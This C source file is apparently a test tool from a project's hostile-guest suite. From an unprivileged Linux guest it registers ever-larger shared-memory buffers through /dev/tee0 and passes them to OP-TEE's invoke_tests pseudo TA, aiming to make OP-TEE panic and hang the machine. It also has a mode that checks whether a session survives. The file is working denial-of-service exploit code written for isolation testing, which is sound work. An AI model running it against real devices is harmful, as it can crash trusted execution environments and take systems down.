// SPDX-License-Identifier: MIT OR Apache-2.0
/*
 * moat-tee-attack: what an ordinary, unprivileged TEE client in a Linux guest can do to
 * OP-TEE through /dev/tee0 (the TEE driver's ioctls, linux/tee.h; no kernel module, no
 * libteec). Part of moat's hostile-guest suite (tests/guests/); `cargo xtask` builds it
 * static and installs it as /usr/bin/moat-tee-attack in every guest's initramfs.
 *
 *   moat-tee-attack map NBUF PAGES
 *       Register NBUF (1..4) buffers of PAGES pages each (TEE_IOC_SHM_REGISTER) and pass
 *       all of them, whole, in one TEE_IOC_INVOKE to invoke_tests.pta. A pseudo TA's
 *       memref parameters are mapped into OP-TEE's own address space before the command
 *       runs (pseudo_ta.c, copy_in_param -> mobj_inc_map), whatever the command, so this
 *       is the largest mapping one call can ask of OP-TEE. (The command id is one the PTA
 *       does not know: the call does nothing else.)
 *
 *   moat-tee-attack sweep NBUF FROM TO STEP
 *       `map NBUF PAGES` for PAGES = FROM, FROM+STEP, ... <= TO, in one process, until a
 *       call is refused. Each attempt is announced before it is made, so when OP-TEE dies
 *       on one, the console's last "trying" line names it.
 *
 *   moat-tee-attack hold SECONDS
 *       Not an attack: the witness of one. Open one session to invoke_tests.pta and invoke
 *       it every 50 ms for SECONDS seconds with a command the PTA does not know, which it
 *       answers TEE_ERROR_BAD_PARAMETERS, origin TRUSTED_APP: an answer from the PTA
 *       itself, so the session is alive. Any other answer means the session (or the TEE)
 *       was taken from this guest, for example by another guest's destruction:
 *
 *   moat-tee-attack: hold: session open
 *   moat-tee-attack: hold: N invokes in S s, every one answered by the PTA
 *   moat-tee-attack: hold: invoke K: TEE result 0x... origin O, not the PTA's answer
 *
 *       The first line is printed once the session is open, the last two at the end
 *       (exit 0) or at the first wrong answer (exit 1).
 *
 * Output, one line each (scenarios and the limits' derivation read them):
 *
 *   moat-tee-attack: map nbuf N pages P: trying
 *   moat-tee-attack: map nbuf N pages P: returned, TEE result 0x... origin O
 *   moat-tee-attack: map nbuf N pages P: refused at register (errno E: ...)
 *   moat-tee-attack: map nbuf N pages P: refused at invoke (errno E: ...)
 *   moat-tee-attack: done
 *
 * A call that returns or is refused is a pass for the TEE: the attack is that OP-TEE
 * panics ("Failed to spread pgdir on small tables") and the machine hangs on the call.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/tee.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096u
#define MAX_BUFS 4u
/* The largest buffer this tool registers (32 MiB); moat's own limits are far below. */
#define MAX_PAGES 8192u
/* A command id invoke_tests.pta does not know: it answers TEE_ERROR_BAD_PARAMETERS. */
#define UNKNOWN_CMD 0x7fffffffu
/* GlobalPlatform's codes (tee_client_api.h). */
#define TEE_ERROR_BAD_PARAMETERS 0xffff0006u
#define TEE_ORIGIN_TRUSTED_APP 4u
/* The longest `hold`: an hour. */
#define MAX_HOLD_SECONDS 3600u

/* invoke_tests.pta (OP-TEE core/pta/tests/invoke.c, lib/libutee/include/pta_invoke_tests.h):
 * d96a5b40-c3e5-21e3-8794-1002a5d5c61b, in TEE_IOC_OPEN_SESSION's octet order. */
static const uint8_t invoke_tests_uuid[TEE_IOCTL_UUID_LEN] = {
	0xd9, 0x6a, 0x5b, 0x40, 0xc3, 0xe5, 0x21, 0xe3,
	0x87, 0x94, 0x10, 0x02, 0xa5, 0xd5, 0xc6, 0x1b,
};

static int tee_fd = -1;

static void die(const char *what)
{
	printf("moat-tee-attack: error %s (errno %d: %s)\n", what, errno, strerror(errno));
	fflush(stdout);
	exit(2);
}

static unsigned long number(const char *s, unsigned long max)
{
	char *end;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 10);
	if (errno || *end || end == s || v > max) {
		printf("moat-tee-attack: error bad number '%s' (at most %lu)\n", s, max);
		exit(2);
	}
	return v;
}

static uint32_t open_session(void)
{
	struct {
		struct tee_ioctl_open_session_arg arg;
		struct tee_ioctl_param params[4];
	} req;
	struct tee_ioctl_buf_data buf = { .buf_ptr = (uintptr_t)&req, .buf_len = sizeof(req) };

	memset(&req, 0, sizeof(req));
	memcpy(req.arg.uuid, invoke_tests_uuid, sizeof(invoke_tests_uuid));
	req.arg.clnt_login = TEE_IOCTL_LOGIN_PUBLIC;
	req.arg.num_params = 4;
	if (ioctl(tee_fd, TEE_IOC_OPEN_SESSION, &buf) != 0)
		die("TEE_IOC_OPEN_SESSION");
	if (req.arg.ret != 0) {
		printf("moat-tee-attack: error open session: TEE result %#x origin %u\n",
		       req.arg.ret, req.arg.ret_origin);
		exit(2);
	}
	return req.arg.session;
}

/* One attempt; returns 0 when the call returned, 1 when it was refused. */
static int map(uint32_t session, uint8_t *mem, unsigned nbuf, unsigned pages)
{
	struct {
		struct tee_ioctl_invoke_arg arg;
		struct tee_ioctl_param params[4];
	} req;
	struct tee_ioctl_buf_data buf = { .buf_ptr = (uintptr_t)&req, .buf_len = sizeof(req) };
	int fds[MAX_BUFS];
	unsigned i, n;
	int refused = 0;

	printf("moat-tee-attack: map nbuf %u pages %u: trying\n", nbuf, pages);
	fflush(stdout);
	memset(&req, 0, sizeof(req));
	for (n = 0; n < nbuf; n++) {
		struct tee_ioctl_shm_register_data reg = {
			.addr = (uintptr_t)(mem + (size_t)n * MAX_PAGES * PAGE),
			.length = (uint64_t)pages * PAGE,
		};
		fds[n] = ioctl(tee_fd, TEE_IOC_SHM_REGISTER, &reg);
		if (fds[n] < 0) {
			printf("moat-tee-attack: map nbuf %u pages %u: refused at register "
			       "(errno %d: %s)\n", nbuf, pages, errno, strerror(errno));
			refused = 1;
			break;
		}
		req.params[n].attr = TEE_IOCTL_PARAM_ATTR_TYPE_MEMREF_INOUT;
		req.params[n].a = 0;
		req.params[n].b = (uint64_t)pages * PAGE;
		req.params[n].c = (uint64_t)reg.id;
	}
	if (!refused) {
		req.arg.func = UNKNOWN_CMD;
		req.arg.session = session;
		req.arg.num_params = 4;
		if (ioctl(tee_fd, TEE_IOC_INVOKE, &buf) != 0) {
			printf("moat-tee-attack: map nbuf %u pages %u: refused at invoke "
			       "(errno %d: %s)\n", nbuf, pages, errno, strerror(errno));
			refused = 1;
		} else {
			printf("moat-tee-attack: map nbuf %u pages %u: returned, TEE result %#x "
			       "origin %u\n", nbuf, pages, req.arg.ret, req.arg.ret_origin);
		}
	}
	for (i = 0; i < n; i++)
		close(fds[i]);
	fflush(stdout);
	return refused;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* `hold SECONDS`: one session, invoked every 50 ms; see the header. */
static int hold(uint32_t session, unsigned seconds)
{
	struct {
		struct tee_ioctl_invoke_arg arg;
		struct tee_ioctl_param params[4];
	} req;
	struct tee_ioctl_buf_data buf = { .buf_ptr = (uintptr_t)&req, .buf_len = sizeof(req) };
	double start = now();
	unsigned long n = 0;

	printf("moat-tee-attack: hold: session open\n");
	fflush(stdout);
	while (now() - start < seconds) {
		memset(&req, 0, sizeof(req));
		req.arg.func = UNKNOWN_CMD;
		req.arg.session = session;
		req.arg.num_params = 4;
		n++;
		if (ioctl(tee_fd, TEE_IOC_INVOKE, &buf) != 0) {
			printf("moat-tee-attack: hold: invoke %lu: refused (errno %d: %s), not the "
			       "PTA's answer\n", n, errno, strerror(errno));
			return 1;
		}
		if (req.arg.ret != TEE_ERROR_BAD_PARAMETERS ||
		    req.arg.ret_origin != TEE_ORIGIN_TRUSTED_APP) {
			printf("moat-tee-attack: hold: invoke %lu: TEE result %#x origin %u, not the "
			       "PTA's answer\n", n, req.arg.ret, req.arg.ret_origin);
			return 1;
		}
		usleep(50000);
	}
	printf("moat-tee-attack: hold: %lu invokes in %u s, every one answered by the PTA\n",
	       n, seconds);
	return 0;
}

static void usage(void)
{
	printf("usage: moat-tee-attack map NBUF PAGES | sweep NBUF FROM TO STEP | "
	       "hold SECONDS\n");
	exit(2);
}

int main(int argc, char **argv)
{
	unsigned nbuf, from, to, step, pages;
	uint32_t session;
	uint8_t *mem;

	if (argc < 2)
		usage();
	if (!strcmp(argv[1], "hold") && argc == 3) {
		unsigned seconds = number(argv[2], MAX_HOLD_SECONDS);

		tee_fd = open("/dev/tee0", O_RDWR);
		if (tee_fd < 0)
			die("open /dev/tee0");
		return hold(open_session(), seconds);
	}
	if (!strcmp(argv[1], "map") && argc == 4) {
		nbuf = number(argv[2], MAX_BUFS);
		from = to = number(argv[3], MAX_PAGES);
		step = 1;
	} else if (!strcmp(argv[1], "sweep") && argc == 6) {
		nbuf = number(argv[2], MAX_BUFS);
		from = number(argv[3], MAX_PAGES);
		to = number(argv[4], MAX_PAGES);
		step = number(argv[5], MAX_PAGES);
	} else {
		usage();
	}
	if (nbuf == 0 || from == 0 || step == 0)
		usage();
	mem = aligned_alloc(PAGE, (size_t)nbuf * MAX_PAGES * PAGE);
	if (!mem)
		die("aligned_alloc");
	/* Fault every page in: registration pins what is there. */
	memset(mem, 0x5a, (size_t)nbuf * MAX_PAGES * PAGE);
	tee_fd = open("/dev/tee0", O_RDWR);
	if (tee_fd < 0)
		die("open /dev/tee0");
	session = open_session();
	for (pages = from; pages <= to; pages += step)
		if (map(session, mem, nbuf, pages))
			break;
	printf("moat-tee-attack: done\n");
	return 0;
}
